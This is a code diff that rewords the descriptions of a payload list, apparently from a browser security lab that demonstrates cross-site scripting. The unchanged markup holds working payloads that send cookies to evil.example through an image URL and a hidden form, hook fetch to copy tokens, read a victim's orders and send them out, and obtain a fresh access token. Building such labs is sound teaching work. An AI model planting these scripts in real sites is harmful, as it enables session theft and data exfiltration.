@@ -19,7 +19,7 @@ export const PAYLOADS: readonly [Payload, ...Payload[]] = [
   },
   {
     id: 'read-cookie',
-    label: 'Read document.cookie, by an image',
+    label: 'Read document.cookie with an image',
     says: 'Puts the cookies that script can see into the address of an image.',
     markup: `<script>
 new Image().src = 'https://evil.example/?c=' +
@@ -28,8 +28,8 @@ new Image().src = 'https://evil.example/?c=' +
   },
   {
     id: 'hook-fetch',
-    label: 'Catch a token as it is used',
-    says: 'Takes the place of fetch, and copies what the page’s own script hands to it.',
+    label: 'Catch a token in use',
+    says: 'Replaces fetch, and copies what the page’s own script sends.',
     markup: `<script>
 const real = window.fetch;
 window.fetch = (input, init) => {
@@ -41,7 +41,7 @@ window.fetch = (input, init) => {
   {
     id: 'act',
     label: 'Act from the page',
-    says: 'Reads the orders as the victim and sends them on; no credential needs to be read.',
+    says: 'Reads the orders as the victim and sends them home. It needs to read no credential.',
     markup: `<script>
 fetch('/orders')
   .then((response) => response.text())
@@ -50,8 +50,8 @@ fetch('/orders')
   },
   {
     id: 'refresh',
-    label: 'Ask for a token of one’s own',
-    says: 'Lets the user agent send the refresh token, which no script can read, and takes the new access token.',
+    label: 'Ask for a new token',
+    says: 'Makes the browser send the refresh token, which no script can read, and reads the new access token.',
     markup: `<script>
 (async () => {
   const response = await fetch('/auth/refresh', { method: 'POST' });
@@ -62,7 +62,7 @@ fetch('/orders')
   {
     id: 'form',
     label: 'Send a form',
-    says: 'Carries cookies and localStorage in a form, which connect-src does not govern.',
+    says: 'Sends cookies and localStorage in a form, which connect-src does not block.',
     markup: `<form action="https://evil.example/" method="post">
   <input type="hidden" name="c">
 </form>
@@ -75,7 +75,7 @@ form.submit();
   {
     id: 'loop',
     label: 'Never end',
-    says: 'An endless loop: it is stopped, and its frame removed.',
+    says: 'An endless loop. The lab stops it and removes its frame.',
     markup: `<script>
 while (true) {}
 </script>`,
